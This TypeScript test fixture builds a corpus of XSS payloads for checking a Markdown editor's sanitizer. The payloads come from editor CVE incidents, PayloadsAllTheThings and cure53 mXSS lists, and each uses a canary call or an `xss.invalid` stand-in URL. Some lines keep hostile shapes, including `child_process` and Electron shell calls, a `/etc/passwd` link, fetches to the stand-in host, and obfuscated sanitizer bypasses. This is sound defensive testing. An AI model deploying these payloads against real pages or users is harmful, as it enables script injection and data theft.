/**
 * The XSS corpus (issue 7 deliverable 1; reliability study §1.4, §3.3, §5 S4): payloads from the
 * Markdown-editor incidents (Joplin, MarkText, Typora, Zettlr, Leanote, Notable, Yank Note, VNote),
 * PayloadsAllTheThings' "XSS in Markdown" list, and the DOMPurify / cure53 mXSS shapes.
 *
 * Every payload is one line and carries its own id, so an execution or a surviving element can be
 * traced back to it:
 * - code that runs calls the canary `__xss('<id>')` (or `alert`/`confirm`/`prompt`/`print`, which the
 *   e2e test also records), or fetches `https://xss.invalid/<id>` (a foreign request);
 * - URL-only payloads (`<base>`, `<meta refresh>`, `<form action>`) point at `https://xss.invalid/<id>`.
 * The structural oracle (test/support/xss-oracle.ts) looks for the markers `__xss` and `xss.invalid`
 * in element attributes and raw-text elements.
 *
 * Templates write `CANARY` for the canary call and `URL` for the foreign URL; both are filled in with
 * the payload's id.
 */
import { findHiddenCharacters } from '../../src/shared/hidden-characters';

/** Where in a draft a payload is placed (every payload is also placed as a paragraph and inline). */
export type XssPlacement =
  /** Raw HTML or text, anywhere text goes. */
  | 'html'
  /** A Markdown link or image destination. */
  | 'link'
  /** A fenced-code info string (```INFO). */
  | 'fence-info'
  /** A heading: article titles (outline), part headings, subheadings. */
  | 'heading'
  /** A YAML front matter value: measure title, proponent names, revision label. */
  | 'front-matter'
  /** Inside a citation: "Section 1 of Article PAYLOAD" (reference checks quote it in lint messages). */
  | 'citation';

export interface XssPayload {
  /** `x001`…: unique; appears inside `text`. */
  readonly id: string;
  readonly placement: XssPlacement;
  /** Where the payload comes from (incident id or list). */
  readonly source: string;
  /** The payload, one line. */
  readonly text: string;
}

/** Every marker the structural oracle searches attributes and raw-text elements for. */
export const XSS_MARKERS = ['__xss', 'xss.invalid'] as const;

const PATT = 'PayloadsAllTheThings XSS in Markdown';
const PATT_HTML = 'PayloadsAllTheThings XSS Injection';
const CURE53 = 'cure53 / DOMPurify mXSS list';
const STUDY = 'reliability-anchors §3.3 corpus';

type Template = readonly [placement: XssPlacement, source: string, template: string];

const TEMPLATES: readonly Template[] = [
  // --- Incident PoCs (reliability study §1.4), the canary in place of the original command.
  ['html', 'Joplin #500 img onerror → require', `<img src=x onerror="CANARY;top.require&&top.require('os')">`],
  ['html', 'Joplin #3552 CVE-2020-15930 embed', `<embed src="URL/embed.html" type="text/html">`],
  ['html', 'Joplin #3552 CVE-2020-15930 embed srcdoc-like', `<embed src="javascript:CANARY">`],
  ['fence-info', 'MarkText #2548 CVE-2021-29996 fence info string', `<style/onload=CANARY>`],
  ['fence-info', 'MarkText #2548 CVE-2021-29996 fence info (img)', `"><img src=x onerror=CANARY>`],
  ['fence-info', 'MarkText #2548 CVE-2021-29996 fence info (quote breakout)', `js' onmouseover='CANARY`],
  ['fence-info', 'MarkText #2548 CVE-2021-29996 fence info (class breakout)', `x" onfocus="CANARY" autofocus x="`],
  [
    'html',
    'MarkText #2946 CVE-2022-24123 diagram label',
    `<div class="mermaid">graph TD; A[<img src=x onerror=CANARY>]</div>`,
  ],
  ['html', 'MarkText #2990 / #3618 CVE-2023-2318 paste', `<span><img src=x onerror=CANARY></span>`],
  [
    'html',
    'Zettlr #1716 iframe onload openExternal',
    `<iframe src=x onload="CANARY;require('electron').shell.openExternal('file:///bin/sh')"></iframe>`,
  ],
  ['heading', 'Typora #1943 heading / TOC', `<img src=x onerror=CANARY> Heading`],
  ['heading', 'Typora #2124 outline / TOC', `Title <svg onload=CANARY>`],
  ['html', 'Typora #2204 iframe srcdoc', `<iframe srcdoc="<script>parent.CANARY</script>"></iframe>`],
  [
    'html',
    'Typora #2297 iframe srcdoc entity-encoded',
    `<iframe srcdoc="&lt;img src=x onerror=parent.CANARY&gt;"></iframe>`,
  ],
  ['html', 'Typora #2289 Mermaid', `<pre class="mermaid">graph LR; A-->B[<a href=javascript:CANARY>x</a>]</pre>`],
  ['html', 'Typora #2310', `<details open ontoggle=CANARY>`],
  ['html', 'Typora #3995 math block', `$$\\unicode{<img src=x onerror=CANARY>}$$`],
  ['html', 'Typora #3124 mXSS through DOMPurify', `<svg></p><style><a id="</style><img src=1 onerror=CANARY>">`],
  ['link', 'Typora #2166 file: link', `[open](file:///C:/Windows/System32/calc.exe?URL)`],
  ['link', 'Typora #2505 file: link to app', `<a href="file:///Applications/Calculator.app?URL">calc</a>`],
  ['link', 'Typora #5623 download', `<a href="URL/payload.js" download>download</a>`],
  ['html', 'Typora <svg><iframe srcdoc>', `<svg><iframe srcdoc="<script>top.CANARY</script>"></iframe></svg>`],
  ['html', 'Typora <ruby><rt>', `<ruby><rt><img src=x onerror=CANARY></rt></ruby>`],
  ['html', 'Notable #390 top.require', `<img src=x onerror="CANARY;top.require('child_process')">`],
  ['html', 'Notable #961 reverse shell from a shared note', `<svg><script>CANARY</script></svg>`],
  ['link', 'Leanote #676 javascript: link', `[click](javascript:CANARY)`],
  ['html', 'Leanote #695 iframe javascript: parent.require', `<iframe src="javascript:parent.CANARY"></iframe>`],
  ['html', 'Leanote desktop-app #284', `<a href="javascript:CANARY">link</a>`],
  ['html', 'Leanote desktop-app #345', `<img src="javascript:CANARY">`],
  ['html', 'Leanote desktop-app #364', `<iframe src="data:text/html,<script>parent.CANARY</script>"></iframe>`],
  [
    'html',
    'Yank Note yn#229 iframe srcdoc nodeRequire',
    `<iframe srcdoc="<script>top.nodeRequire&&0;top.CANARY</script>">`,
  ],
  ['html', 'VNote #2446 CVE-2023-5701 sanitizer bypass', `<img src=x onerror=CANARY//`],
  [
    'html',
    'VS Code CVE-2021-43908 webview',
    `<webview src="URL" nodeintegration preload="file:///tmp/p.js"></webview>`,
  ],
  // --- Links: schemes and the usual obfuscations.
  ['link', PATT, `[a](javascript:CANARY)`],
  ['link', PATT, `[a](JaVaScRiPt:CANARY)`],
  ['link', PATT, `[a](java&#x09;script:CANARY)`],
  ['link', PATT, `[a](&#106;avascript:CANARY)`],
  ['link', PATT, `[a](&#x6A;&#x61;&#x76;&#x61;&#x73;&#x63;&#x72;&#x69;&#x70;&#x74;:CANARY)`],
  ['link', PATT, `[a](javascript&colon;CANARY)`],
  ['link', PATT, `[a](  javascript:CANARY)`],
  ['link', PATT, `[a](<javascript:CANARY>)`],
  ['link', PATT, `[a](javascript://%0ACANARY)`],
  ['link', PATT, `[a](data:text/html;base64,PHNjcmlwdD50b3AuX194c3MoJ2RhdGEnKTwvc2NyaXB0Pg==?URL)`],
  ['link', PATT, `[a](data:text/html,<script>top.CANARY</script>)`],
  ['link', PATT, `[a](vbscript:msgbox(CANARY))`],
  ['link', PATT, `[a](file:///etc/passwd?URL)`],
  ['link', PATT, `[a](//xss.invalid/PID)`],
  ['link', PATT, `[a][ref] and [ref]: javascript:CANARY`],
  ['link', PATT, `<javascript:CANARY>`],
  ['link', PATT, `[a](https://example.com"onclick="CANARY)`],
  ['link', PATT, `[a](#" onmouseover="CANARY)`],
  ['link', PATT, `![img](x" onerror="CANARY)`],
  ['link', PATT, `![img](javascript:CANARY)`],
  ['link', PATT, `![img](URL/pixel.png)`],
  ['link', PATT, `![img"onerror="CANARY](x)`],
  ['link', PATT, `[<img src=x onerror=CANARY>](https://example.com)`],
  ['link', PATT, `[a](javascript:window.onerror=CANARY;throw 1)`],
  ['link', PATT, `<a href="jav&#x0A;ascript:CANARY">a</a>`],
  [
    'link',
    PATT,
    `<a href="&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116:CANARY">a</a>`,
  ],
  ['link', PATT, `<a href="vbscript:CANARY">a</a>`],
  ['link', PATT, `<a href="data:text/html,<script>top.CANARY</script>">a</a>`],
  ['link', PATT, `<a href="URL" target="_blank">popup</a>`],
  ['link', PATT, `<a href="URL" ping="URL/ping">ping</a>`],
  ['link', PATT, `<area href="javascript:CANARY">`],
  // --- Raw HTML blocks and inline HTML.
  ['html', PATT_HTML, `<script>CANARY</script>`],
  ['html', PATT_HTML, `<script src="URL/x.js"></script>`],
  ['html', PATT_HTML, `<ScRiPt>CANARY</sCrIpT>`],
  ['html', PATT_HTML, `<script>/*</script><img src=x onerror=CANARY>*/</script>`],
  ['html', PATT_HTML, `<img src=x onerror=CANARY>`],
  ['html', PATT_HTML, `<img/src/onerror=CANARY>`],
  ['html', PATT_HTML, `<img src="x" onerror="&#x5F;&#x5F;xss('PID')">`],
  ['html', PATT_HTML, `<img src=x:x onerror=CANARY>`],
  ['html', PATT_HTML, `<image src=x onerror=CANARY>`],
  ['html', PATT_HTML, `<svg onload=CANARY>`],
  ['html', PATT_HTML, `<svg/onload=CANARY//`],
  ['html', PATT_HTML, `<body onload=CANARY>`],
  ['html', PATT_HTML, `<iframe src="URL"></iframe>`],
  ['html', PATT_HTML, `<iframe srcdoc="<img src=x onerror=top.CANARY>"></iframe>`],
  ['html', PATT_HTML, `<object data="URL/x.swf"></object>`],
  ['html', PATT_HTML, `<object data="javascript:CANARY"></object>`],
  ['html', PATT_HTML, `<embed src="data:image/svg+xml,<svg onload=top.CANARY>">`],
  ['html', PATT_HTML, `<base href="URL/">`],
  ['html', PATT_HTML, `<meta http-equiv="refresh" content="0;url=URL">`],
  ['html', PATT_HTML, `<meta http-equiv="refresh" content="0;url=javascript:CANARY">`],
  ['html', PATT_HTML, `<form action="URL"><button>Submit</button></form>`],
  ['html', PATT_HTML, `<form><button formaction="javascript:CANARY">x</button></form>`],
  ['html', PATT_HTML, `<input autofocus onfocus=CANARY>`],
  ['html', PATT_HTML, `<select autofocus onfocus=CANARY></select>`],
  ['html', PATT_HTML, `<textarea autofocus onfocus=CANARY></textarea>`],
  ['html', PATT_HTML, `<keygen autofocus onfocus=CANARY>`],
  ['html', PATT_HTML, `<video><source onerror=CANARY></video>`],
  ['html', PATT_HTML, `<audio src=x onerror=CANARY>`],
  ['html', PATT_HTML, `<video poster="javascript:CANARY"></video>`],
  ['html', PATT_HTML, `<marquee onstart=CANARY>x</marquee>`],
  ['html', PATT_HTML, `<div onpointerenter=CANARY style="position:fixed;inset:0">x</div>`],
  ['html', PATT_HTML, `<x contenteditable onblur=CANARY>x</x>`],
  ['html', PATT_HTML, `<link rel="stylesheet" href="URL/x.css">`],
  ['html', PATT_HTML, `<link rel="import" href="URL/x.html">`],
  ['html', PATT_HTML, `<style>@import 'URL/x.css';</style>`],
  ['html', PATT_HTML, `<style>body{background:url("URL/bg")}</style>`],
  ['html', PATT_HTML, `<p style="background:url(URL/inline)">styled</p>`],
  ['html', PATT_HTML, `<div style="width:expression(CANARY)">ie</div>`],
  ['html', PATT_HTML, `<portal src="URL"></portal>`],
  ['html', PATT_HTML, `<frameset><frame src="javascript:CANARY"></frameset>`],
  ['html', PATT_HTML, `<applet code="URL/x.class"></applet>`],
  ['html', PATT_HTML, `<isindex action="javascript:CANARY" type=image>`],
  ['html', PATT_HTML, `<object type="text/x-scriptlet" data="URL/x.sct"></object>`],
  ['html', PATT_HTML, `"><script>CANARY</script>`],
  ['html', PATT_HTML, `'><img src=x onerror=CANARY>`],
  ['html', PATT_HTML, `</textarea><script>CANARY</script>`],
  ['html', PATT_HTML, `</title><script>CANARY</script>`],
  ['html', PATT_HTML, `</style><script>CANARY</script>`],
  ['html', PATT_HTML, `--><script>CANARY</script><!--`],
  ['html', PATT_HTML, `]]><script>CANARY</script>`],
  ['html', PATT_HTML, `<!--<img src="--><img src=x onerror=CANARY//">`],
  // --- SVG and MathML.
  ['html', PATT_HTML, `<svg><animate onbegin=CANARY attributeName=x dur=1s>`],
  ['html', PATT_HTML, `<svg><set onbegin=CANARY attributeName=x to=1>`],
  ['html', PATT_HTML, `<svg><a xlink:href="javascript:CANARY"><text x=20 y=20>svg link</text></a></svg>`],
  [
    'html',
    PATT_HTML,
    `<svg><use href="data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'><image href='1' onerror='top.CANARY'/></svg>#x"/></svg>`,
  ],
  [
    'html',
    PATT_HTML,
    `<svg><foreignObject><iframe srcdoc="<script>top.CANARY</script>"></iframe></foreignObject></svg>`,
  ],
  [
    'html',
    PATT_HTML,
    `<svg><animate attributeName=href values="javascript:CANARY"/><a id=x><text y=9>x</text></a></svg>`,
  ],
  ['html', PATT_HTML, `<math><maction actiontype="statusline" xlink:href="javascript:CANARY">m</maction></math>`],
  ['html', PATT_HTML, `<math href="javascript:CANARY"><mi>x</mi></math>`],
  // --- mXSS shapes (mutation after serialize → reparse).
  ['html', CURE53, `<math><mtext><table><mglyph><style><img src=x onerror=CANARY>`],
  [
    'html',
    CURE53,
    `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=CANARY&gt;">`,
  ],
  ['html', CURE53, `<noscript><p title="</noscript><img src=x onerror=CANARY>">`],
  ['html', CURE53, `<form><math><mtext></form><form><mglyph><style></math><img src onerror=CANARY>`],
  ['html', CURE53, `<svg></p><style><a id="</style><img src=1 onerror=CANARY>">`],
  ['html', CURE53, `<math><mi><table><mi><style><img src=x onerror=CANARY>`],
  ['html', CURE53, `<svg><style><img src=x onerror=CANARY></style></svg>`],
  ['html', CURE53, `<xmp><p title="</xmp><img src=x onerror=CANARY>">`],
  ['html', CURE53, `<noembed><img title="</noembed><img src=x onerror=CANARY>"></noembed>`],
  ['html', CURE53, `<noframes><p title="</noframes><img src=x onerror=CANARY>">`],
  ['html', CURE53, `<iframe><p title="</iframe><img src=x onerror=CANARY>">`],
  ['html', CURE53, `<a href="&#x6a;avascript:CANARY" id="</a><img src=x onerror=CANARY>">m</a>`],
  // --- Template and style breakouts.
  ['html', STUDY, `<template><img src=x onerror=CANARY></template>`],
  ['html', STUDY, `<template shadowrootmode="open"><img src=x onerror=CANARY></template>`],
  ['html', STUDY, `<style>*{}</style><img src=x onerror=CANARY>`],
  ['html', STUDY, `"; } body { background: url(URL/css) } x { content: "`],
  ['html', STUDY, `\\"; } @import url(URL/esc); x { a: \\"`],
  ['html', STUDY, `</style><img src=x onerror=CANARY><style>`],
  ['html', STUDY, `\${CANARY}`],
  ['html', STUDY, `{{constructor.constructor('CANARY')()}}`],
  // --- Entity and encoding tricks.
  ['html', PATT_HTML, `&lt;img src=x onerror=CANARY&gt;`],
  ['html', PATT_HTML, `&#60;script&#62;CANARY&#60;/script&#62;`],
  ['html', PATT_HTML, `\\u003cimg src=x onerror=CANARY\\u003e`],
  ['html', PATT_HTML, `%3Cimg%20src%3Dx%20onerror%3DCANARY%3E`],
  ['html', PATT_HTML, `<img src=x onerror=&#95;&#95;xss&#40;'PID'&#41;>`],
  ['html', PATT_HTML, `<img src=x onerror=\\u005f\\u005fxss('PID')>`],
  ['html', PATT_HTML, `<img src=x oNeRrOr=CANARY>`],
  ['html', PATT_HTML, `<img src=x onerror\u000c=CANARY>`],
  ['html', PATT_HTML, `<scr<script>ipt>CANARY</scr</script>ipt>`],
  ['html', PATT_HTML, `\u202e<img src=x onerror=CANARY>\u202c`],
  ['html', PATT_HTML, `<img src=x onerror=alert('PID')>`],
  ['html', PATT_HTML, `<img src=x onerror=confirm('PID')>`],
  ['html', PATT_HTML, `<img src=x onerror=prompt('PID')>`],
  ['html', PATT_HTML, `<img src=x onerror="fetch('URL')">`],
  ['html', PATT_HTML, `<img src=x onerror="location='URL'">`],
  ['html', PATT_HTML, `<img src=x onerror="window.open('URL')">`],
  // --- Headings (outline, part headings).
  ['heading', PATT, `<script>CANARY</script>`],
  ['heading', PATT, `<a href="javascript:CANARY">heading link</a>`],
  ['heading', PATT, `[heading](javascript:CANARY)`],
  ['heading', PATT, `<iframe srcdoc="<script>top.CANARY</script>">`],
  ['heading', PATT, `"><img src=x onerror=CANARY>`],
  // --- Front matter values (title, proponents, revision).
  ['front-matter', STUDY, `Freedom Act <img src=x onerror=CANARY>`],
  ['front-matter', STUDY, `"><svg onload=CANARY>`],
  ['front-matter', STUDY, `</title><script>CANARY</script>`],
  ['front-matter', STUDY, `Ana <iframe srcdoc="<script>top.CANARY</script>">`],
  ['front-matter', STUDY, `Rev. </style><img src=x onerror=CANARY>`],
  ['front-matter', STUDY, `[name](javascript:CANARY)`],
  // --- Citations (reference checks quote them).
  ['citation', STUDY, `<img src=x onerror=CANARY>`],
  ['citation', STUDY, `III"><script>CANARY</script>`],
  ['citation', STUDY, `[IV](javascript:CANARY)`],
  ['citation', STUDY, `<svg onload=CANARY>`],
];

function idOf(index: number): string {
  return `x${String(index + 1).padStart(3, '0')}`;
}

/** The corpus, ids `x001`…, canary calls and foreign URLs filled in. */
export const XSS_PAYLOADS: readonly XssPayload[] = TEMPLATES.map(([placement, source, template], index) => {
  const id = idOf(index);
  const text = template
    .replaceAll('CANARY', `__xss('${id}')`)
    .replaceAll('URL', `https://xss.invalid/${id}`)
    .replaceAll('PID', id);
  return { id, placement, source, text };
});

/** The payloads meant for one placement. */
export function payloadsFor(placement: XssPlacement): readonly XssPayload[] {
  return XSS_PAYLOADS.filter((payload) => payload.placement === placement);
}

/**
 * Whether `payload` holds a character that a filing refuses (a control or bidi character: issue 7
 * item 4 reports it by name, and every export stops on it). The export paths see the corpus without
 * these payloads, and a test checks the refusal instead.
 */
export function refusedInFilings(payload: XssPayload): boolean {
  return findHiddenCharacters(payload.text, { severities: ['error'], maxFindings: 1 }).findings.length > 0;
}
